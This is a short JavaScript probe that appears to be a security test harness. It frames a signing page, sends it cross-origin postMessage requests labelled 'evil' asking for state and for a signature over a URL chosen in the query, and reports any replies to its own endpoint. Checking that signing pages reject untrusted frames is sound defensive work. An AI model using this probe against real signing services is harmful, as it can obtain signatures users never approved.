/** Frames the signing page and speaks the client's protocol to it. A frame of our own shows that the speech is right. */
const WAIT_MS = 2500;
const query = new URLSearchParams(location.search);

const control = await probe(new URL('/control', location.href).href);
const target = await probe(query.get('frame'));
const report = JSON.stringify({ control, target });
await fetch(`/report?id=${encodeURIComponent(query.get('id'))}`, { method: 'POST', body: report });
document.querySelector('#state').textContent = `The signing page ${target.answered ? 'answered' : 'did not answer'}.`;
close();

/** Loads `url` in a frame and asks for a state and a signature over a port. */
async function probe(url) {
  const frame = document.createElement('iframe');
  const heard = [];
  addEventListener('message', (event) => {
    if (event.source === frame.contentWindow) heard.push(event.data);
  });
  frame.src = url;
  const loaded = new Promise((resolve) => frame.addEventListener('load', () => resolve(true), { once: true }));
  document.body.append(frame);
  const didLoad = await Promise.race([loaded, wait(WAIT_MS).then(() => false)]);

  const { port1, port2 } = new MessageChannel();
  port1.onmessage = ({ data }) => heard.push(data);
  frame.contentWindow.postMessage({ pas: 'connect' }, new URL(url).origin, [port2]);
  port1.postMessage({ id: 'evil-1', type: 'state' });
  port1.postMessage({ id: 'evil-2', type: 'sign', method: 'GET', url: query.get('url') });
  await wait(didLoad ? WAIT_MS / 2 : 0);
  frame.remove();
  return {
    loadEvent: didLoad,
    answered: heard.length > 0,
    heard: heard.slice(0, 4).map((message) => JSON.stringify(message).slice(0, 300)),
  };
}

function wait(ms) {
  return new Promise((resolve) => setTimeout(resolve, ms));
}
